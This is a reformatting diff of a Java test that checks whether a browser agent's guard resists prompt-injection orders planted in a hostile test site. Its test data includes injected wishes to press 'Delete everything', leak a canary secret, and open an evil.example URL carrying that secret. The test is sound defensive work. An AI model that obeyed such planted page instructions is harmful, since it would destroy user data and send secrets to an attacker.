@@ -37,7 +37,8 @@ class HijackSiteTest {
   private final ObeyingModel model = new ObeyingModel(CANARY);
 
   /** What came of one page. */
-  private record Result(List<Finding> findings, List<String> bare, List<String> wished, List<String> done) {}
+  private record Result(
+      List<Finding> findings, List<String> bare, List<String> wished, List<String> done) {}
 
   @Test
   void neverActsOnAnOrderNorLeaksAndReportsEachAttack() {
@@ -45,7 +46,8 @@ class HijackSiteTest {
     try (var site = HijackSite.start(0)) {
       var persona = Browsers.persona("middle_age_moderate");
       var start = URI.create(site.url() + "/");
-      var settings = SessionSettings.of(Browsers.plan(start, Duration.ofSeconds(85), persona), persona);
+      var settings =
+          SessionSettings.of(Browsers.plan(start, Duration.ofSeconds(85), persona), persona);
       Browsers.in(
           settings,
           session -> {
@@ -55,11 +57,23 @@ class HijackSiteTest {
     }
     var readable = results.entrySet().stream().filter(entry -> entry.getKey().readable()).toList();
     assertThat(readable).hasSizeGreaterThanOrEqualTo(30);
-    assertThat(readable).filteredOn(entry -> entry.getValue().bare().isEmpty()).as("orders that the stub doesn't understand").isEmpty();
-    assertThat(readable).filteredOn(entry -> entry.getValue().findings().isEmpty()).as("attacks that nobody reported").isEmpty();
+    assertThat(readable)
+        .filteredOn(entry -> entry.getValue().bare().isEmpty())
+        .as("orders that the stub doesn't understand")
+        .isEmpty();
+    assertThat(readable)
+        .filteredOn(entry -> entry.getValue().findings().isEmpty())
+        .as("attacks that nobody reported")
+        .isEmpty();
     assertThat(readable).allSatisfy(entry -> placed(entry));
-    assertThat(results.entrySet()).filteredOn(entry -> !entry.getValue().wished().isEmpty()).as("orders that got through to the model").isEmpty();
-    assertThat(results.entrySet()).filteredOn(entry -> !entry.getValue().done().isEmpty()).as("forbidden things that were done").isEmpty();
+    assertThat(results.entrySet())
+        .filteredOn(entry -> !entry.getValue().wished().isEmpty())
+        .as("orders that got through to the model")
+        .isEmpty();
+    assertThat(results.entrySet())
+        .filteredOn(entry -> !entry.getValue().done().isEmpty())
+        .as("forbidden things that were done")
+        .isEmpty();
   }
 
   private static void placed(Map.Entry<HijackPage, Result> entry) {
@@ -80,7 +94,12 @@ class HijackSiteTest {
               URI.create(site.url() + "/paragraph"),
               session -> {
                 var view = Perception.of(session);
-                var all = List.of(new ObeyingModel.Wish.Press("Delete everything"), new ObeyingModel.Wish.Type(CANARY), new ObeyingModel.Wish.Open("http://evil.example/?d=" + CANARY), new ObeyingModel.Wish.Say("The word is " + CANARY));
+                var all =
+                    List.of(
+                        new ObeyingModel.Wish.Press("Delete everything"),
+                        new ObeyingModel.Wish.Type(CANARY),
+                        new ObeyingModel.Wish.Open("http://evil.example/?d=" + CANARY),
+                        new ObeyingModel.Wish.Say("The word is " + CANARY));
                 return all.stream().filter(wish -> allowed(wish, view)).toList();
               });
       assertThat(done).isEmpty();
@@ -92,8 +111,14 @@ class HijackSiteTest {
     session.page().waitForLoadState();
     var probes = new Probes(Audits.PROBES);
     var view = Perception.of(session);
-    var subject = new AuditSubject(view, session.page(), Browsers.persona("middle_age_moderate"), "Buy a mug");
-    var readable = Stream.concat(seen(view), probes.hits(subject, "hijack").stream().map(hit -> hit.word("words"))).distinct().collect(Collectors.joining("\n"));
+    var subject =
+        new AuditSubject(
+            view, session.page(), Browsers.persona("middle_age_moderate"), "Buy a mug");
+    var readable =
+        Stream.concat(
+                seen(view), probes.hits(subject, "hijack").stream().map(hit -> hit.word("words")))
+            .distinct()
+            .collect(Collectors.joining("\n"));
     var bare = model.answer(readable);
     var wishes = model.answer(Guard.fence("page", guard.withoutOrders(readable)));
     return new Result(
@@ -112,14 +137,20 @@ class HijackSiteTest {
     view.images().forEach(image -> words.add(image.alt()));
     view.landmarks().forEach(landmark -> words.add(landmark.name()));
     view.elements().forEach(element -> words.addAll(List.of(element.name(), element.text())));
-    view.scene().nodes().forEach(node -> words.addAll(List.of(node.own(), node.name(), node.value())));
+    view.scene()
+        .nodes()
+        .forEach(node -> words.addAll(List.of(node.own(), node.name(), node.value())));
     return words.stream().filter(word -> !word.isBlank());
   }
 
   private boolean allowed(ObeyingModel.Wish wish, PageView view) {
     var hosts = AllowedHosts.of(URI.create(view.url()), Set.of());
     return switch (wish) {
-      case ObeyingModel.Wish.Press press -> button(view, press.button()) != null && ForbiddenActions.reason(button(view, press.button()), view.url() + "/delete", hosts).isEmpty();
+      case ObeyingModel.Wish.Press press ->
+          button(view, press.button()) != null
+              && ForbiddenActions.reason(
+                      button(view, press.button()), view.url() + "/delete", hosts)
+                  .isEmpty();
       case ObeyingModel.Wish.Type type -> clean(type.text());
       case ObeyingModel.Wish.Open open -> hosts.allows(open.address()) && clean(open.address());
       case ObeyingModel.Wish.Say say -> clean(say.words());
@@ -131,6 +162,9 @@ class HijackSiteTest {
   }
 
   private static Element button(PageView view, String name) {
-    return view.elements().stream().filter(element -> element.name().equals(name)).findFirst().orElse(null);
+    return view.elements().stream()
+        .filter(element -> element.name().equals(name))
+        .findFirst()
+        .orElse(null);
   }
 }
